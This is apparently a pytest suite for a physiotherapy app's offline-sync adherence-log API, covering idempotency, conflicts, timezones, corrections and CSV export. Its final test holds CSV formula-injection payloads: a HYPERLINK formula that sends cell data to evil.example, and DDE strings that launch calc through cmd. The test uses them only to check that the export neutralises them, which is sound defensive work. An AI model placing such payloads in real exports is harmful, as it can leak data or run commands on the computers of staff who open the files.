"""Logging from an app that may be offline and retry: idempotent, per-entry answers, nothing twice."""

from __future__ import annotations

import uuid
from datetime import UTC, date, datetime, timedelta, timezone

import pytest
import sqlalchemy as sa
import time_machine

from hep.adherence.models import AdherenceLog
from hep.extensions import db
from hep.programs.models import Routine
from tests.factories import item, routine_body

NOW = datetime(2026, 11, 20, 18, 0, tzinfo=UTC)
TONGA = timezone(timedelta(hours=13))  # Pacific/Tongatapu, UTC+13 all year
HONOLULU = timezone(timedelta(hours=-10))  # Pacific/Honolulu, UTC-10 all year


@pytest.fixture(autouse=True)
def frozen():
    with time_machine.travel(NOW, tick=False):
        yield


@pytest.fixture
def patient(make):
    make.exercise(slug="bridge")
    make.exercise(slug="bird-dog")
    patient = make.patient(timezone="Pacific/Tongatapu")
    make.routine(patient, routine_body(date(2026, 11, 1), items=[item("bridge"), item("bird-dog")]), now=NOW)
    return patient


@pytest.fixture
def items(patient):
    routine = db.session.scalar(sa.select(Routine).where(Routine.patient_id == patient.id))
    return [i.id for i in routine.current.phases[0].items]


@pytest.fixture
def headers(make, patient):
    return make.headers(patient, now=NOW)


def entry(item_id, at=None, **kw):
    at = at or NOW.astimezone(TONGA) - timedelta(hours=1)
    return {
        "id": str(uuid.uuid4()),
        "routine_item_id": item_id,
        "performed_at": at.isoformat(),
        "sets_done": 3,
        "pain_before": 4,
        "pain_after": 3,
        "difficulty": 5,
        **kw,
    }


def sync(client, headers, patient, entries):
    response = client.post(f"/api/v1/patients/{patient.id}/logs/batch", headers=headers, json={"entries": entries})
    assert response.status_code == 200, response.json
    return response.json


def stored() -> int:
    return db.session.scalar(sa.select(sa.func.count()).select_from(AdherenceLog))


def test_batch_answers_each_entry(client, headers, patient, items):
    entries = [entry(items[0]), entry(items[1]), {"id": "not-a-uuid"}]
    body = sync(client, headers, patient, entries)
    assert [r["status"] for r in body["results"]] == ["created", "created", "rejected"]
    assert body["counts"] == {"created": 2, "duplicate": 0, "conflict": 0, "rejected": 1}
    assert stored() == 2


def test_resending_the_same_batch_creates_nothing_twice(client, headers, patient, items):
    entries = [entry(items[0]), entry(items[1])]
    sync(client, headers, patient, entries)
    for _ in range(3):
        body = sync(client, headers, patient, entries)
        assert [r["status"] for r in body["results"]] == ["duplicate", "duplicate"]
    assert stored() == 2


def test_same_entry_twice_in_one_batch_is_stored_once(client, headers, patient, items):
    one = entry(items[0])
    assert [r["status"] for r in sync(client, headers, patient, [one, one])["results"]] == ["created", "duplicate"]
    assert stored() == 1


def test_known_uuid_with_different_content_is_a_conflict_and_not_overwritten(client, headers, patient, items):
    original = entry(items[0], pain_after=2)
    sync(client, headers, patient, [original])
    answer = sync(client, headers, patient, [{**original, "pain_after": 9}])["results"][0]
    assert answer["status"] == "conflict"
    assert answer["invalid_params"][0]["name"] == "entries.0.id"
    assert db.session.scalar(sa.select(AdherenceLog.pain_after)) == 2


def test_a_uuid_another_patient_used_is_a_conflict(client, make, headers, patient, items):
    other = make.patient(patient.clinic)
    make.routine(other, routine_body(date(2026, 11, 1), items=[item("bridge")]), now=NOW)
    other_item = db.session.scalar(sa.select(Routine).where(Routine.patient_id == other.id)).current.phases[0].items[0]
    taken = entry(other_item.id)
    sync(client, make.headers(other, now=NOW), other, [taken])
    answer = sync(client, headers, patient, [{**taken, "routine_item_id": items[0]}])["results"][0]
    assert answer["status"] == "conflict"


@pytest.mark.parametrize(
    ("when", "reason"),
    [
        (NOW + timedelta(minutes=10), "is in the future"),
        (NOW - timedelta(days=14, minutes=1), "more than 14 days ago"),
    ],
)
def test_entries_too_old_or_in_the_future_are_rejected(client, headers, patient, items, when, reason):
    answer = sync(client, headers, patient, [entry(items[0], at=when.astimezone(TONGA))])["results"][0]
    assert answer["status"] == "rejected"
    assert answer["invalid_params"][0]["name"] == "entries.0.performed_at"
    assert reason in answer["invalid_params"][0]["reason"]


@pytest.mark.parametrize("app_config", [{"LOG_MAX_AGE_DAYS": 30}])
def test_the_age_limit_is_configurable(client, headers, patient, items, app_config):
    answer = sync(client, headers, patient, [entry(items[0], at=NOW - timedelta(days=20))])["results"][0]
    assert answer["status"] == "created"


def test_an_item_of_someone_elses_routine_is_rejected(client, make, headers, patient):
    other = make.patient(patient.clinic)
    make.routine(other, routine_body(date(2026, 11, 1), items=[item("bridge")]), now=NOW)
    foreign = db.session.scalar(sa.select(Routine).where(Routine.patient_id == other.id)).current.phases[0].items[0]
    answer = sync(client, headers, patient, [entry(foreign.id)])["results"][0]
    assert (answer["status"], answer["invalid_params"][0]["name"]) == ("rejected", "entries.0.routine_item_id")


def test_a_batch_over_500_entries_is_refused_whole(client, headers, patient, items):
    response = client.post(
        f"/api/v1/patients/{patient.id}/logs/batch",
        headers=headers,
        json={"entries": [entry(items[0]) for _ in range(501)]},
    )
    assert response.status_code == 422
    assert stored() == 0


def test_utc_plus_13_just_after_midnight_counts_for_the_local_day(client, headers, patient, items):
    at = datetime(2026, 11, 20, 0, 30, tzinfo=TONGA)  # 2026-11-19 11:30 UTC
    sync(client, headers, patient, [entry(items[0], at=at)])
    log = db.session.scalar(sa.select(AdherenceLog))
    assert (log.local_date, log.utc_offset_minutes) == (date(2026, 11, 20), 780)
    assert log.performed_at == datetime(2026, 11, 19, 11, 30, tzinfo=UTC)


def test_utc_minus_10_just_before_midnight_counts_for_the_local_day(client, make, items):
    make.exercise(slug="calf-raise")
    patient = make.patient(timezone="Pacific/Honolulu")
    make.routine(patient, routine_body(date(2026, 11, 1), items=[item("calf-raise")]), now=NOW)
    item_id = db.session.scalar(sa.select(Routine).where(Routine.patient_id == patient.id)).current.phases[0].items[0]
    at = datetime(2026, 11, 19, 23, 30, tzinfo=HONOLULU)  # 2026-11-20 09:30 UTC
    sync(client, make.headers(patient, now=NOW), patient, [entry(item_id.id, at=at)])
    assert db.session.scalar(sa.select(AdherenceLog.local_date)) == date(2026, 11, 19)


def test_single_entry_create_then_resend_is_200_with_the_same_entry(client, headers, patient, items):
    one = entry(items[0])
    first = client.post(f"/api/v1/patients/{patient.id}/logs", headers=headers, json=one)
    again = client.post(f"/api/v1/patients/{patient.id}/logs", headers=headers, json=one)
    assert (first.status_code, again.status_code) == (201, 200)
    assert first.json == again.json and stored() == 1


def test_idempotency_key_replays_the_first_answer(client, headers, patient, items):
    keyed = {**headers, "Idempotency-Key": "tap-42"}
    one = entry(items[0])
    first = client.post(f"/api/v1/patients/{patient.id}/logs", headers=keyed, json=one)
    again = client.post(f"/api/v1/patients/{patient.id}/logs", headers=keyed, json=one)
    assert again.status_code == first.status_code == 201
    assert again.headers["Idempotent-Replayed"] == "true" and again.json == first.json


def test_idempotency_key_reused_for_a_different_request_is_refused(client, headers, patient, items):
    keyed = {**headers, "Idempotency-Key": "tap-43"}
    client.post(f"/api/v1/patients/{patient.id}/logs", headers=keyed, json=entry(items[0]))
    response = client.post(f"/api/v1/patients/{patient.id}/logs", headers=keyed, json=entry(items[1]))
    assert response.status_code == 422
    assert response.json["invalid_params"][0] == {
        "name": "Idempotency-Key",
        "location": "header",
        "reason": "was already used for a different request",
    }
    assert stored() == 1


def test_single_entry_conflict_is_409(client, headers, patient, items):
    one = entry(items[0])
    client.post(f"/api/v1/patients/{patient.id}/logs", headers=headers, json=one)
    response = client.post(f"/api/v1/patients/{patient.id}/logs", headers=headers, json={**one, "sets_done": 1})
    assert response.status_code == 409


def test_patient_corrects_their_entry_and_credit_follows(client, headers, patient, items):
    one = entry(items[0], sets_done=3)
    client.post(f"/api/v1/patients/{patient.id}/logs", headers=headers, json=one)
    fixed = client.patch(
        f"/api/v1/patients/{patient.id}/logs/{one['id']}",
        headers=headers,
        json={"sets_done": 1, "note": "only managed one set"},
    )
    assert fixed.status_code == 200
    assert (fixed.json["sets_done"], fixed.json["credit"], fixed.json["note"]) == (
        1,
        pytest.approx(1 / 3),
        "only managed one set",
    )
    assert fixed.json["prescribed"]["sets"] == 3


def test_a_correction_does_not_make_the_original_resend_a_conflict(client, headers, patient, items):
    one = entry(items[0])
    sync(client, headers, patient, [one])
    client.patch(f"/api/v1/patients/{patient.id}/logs/{one['id']}", headers=headers, json={"pain_after": 1})
    assert sync(client, headers, patient, [one])["results"][0]["status"] == "duplicate"


def test_deleted_entry_is_not_brought_back_by_a_late_resend(client, headers, patient, items):
    one = entry(items[0])
    sync(client, headers, patient, [one])
    assert client.delete(f"/api/v1/patients/{patient.id}/logs/{one['id']}", headers=headers).status_code == 204
    assert client.delete(f"/api/v1/patients/{patient.id}/logs/{one['id']}", headers=headers).status_code == 204
    assert sync(client, headers, patient, [one])["results"][0]["status"] == "duplicate"
    listed = client.get(f"/api/v1/patients/{patient.id}/logs", headers=headers).json["items"]
    assert listed == []


def test_staff_cannot_log_or_correct_for_a_patient(client, make, patient, items):
    physio = make.headers(db.session.get(type(patient), patient.patient.physiotherapist_id), now=NOW)
    assert client.post(f"/api/v1/patients/{patient.id}/logs", headers=physio, json=entry(items[0])).status_code == 403


def test_staff_export_logs_as_csv(client, make, headers, patient, items):
    sync(client, headers, patient, [entry(items[0], note="felt good, a bit stiff")])
    physio = make.headers(db.session.get(type(patient), patient.patient.physiotherapist_id), now=NOW)
    response = client.get(f"/api/v1/patients/{patient.id}/logs.csv", headers=physio)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    lines = response.get_data(as_text=True).strip().splitlines()
    assert lines[0].startswith("id,performed_at,utc_offset_minutes,local_date,exercise")
    assert len(lines) == 2 and '"felt good, a bit stiff"' in lines[1] and ",bridge," in lines[1]


def test_the_log_list_pages_with_its_own_cursor(client, headers, patient, items):
    sync(client, headers, patient, [entry(items[0], at=NOW.astimezone(TONGA) - timedelta(hours=h)) for h in (1, 2, 3)])
    first = client.get(f"/api/v1/patients/{patient.id}/logs?limit=2", headers=headers).json
    rest = client.get(f"/api/v1/patients/{patient.id}/logs?limit=2&cursor={first['next_cursor']}", headers=headers)
    assert rest.status_code == 200
    assert len(first["items"]) == 2 and len(rest.json["items"]) == 1 and rest.json["next_cursor"] is None


@pytest.mark.parametrize(
    "note",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_the_csv_export_neutralises_formulas_in_patient_text(client, make, headers, patient, items, note):
    import csv
    import io

    sync(client, headers, patient, [entry(items[0], note=note)])
    physio = make.headers(db.session.get(type(patient), patient.patient.physiotherapist_id), now=NOW)
    response = client.get(f"/api/v1/patients/{patient.id}/logs.csv", headers=physio)
    header, row = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    cell = row[header.index("note")]
    assert cell == "'" + note  # read back as text: the apostrophe keeps any spreadsheet from evaluating it
    assert row[header.index("utc_offset_minutes")].lstrip("-").isdigit()  # numbers are left as numbers
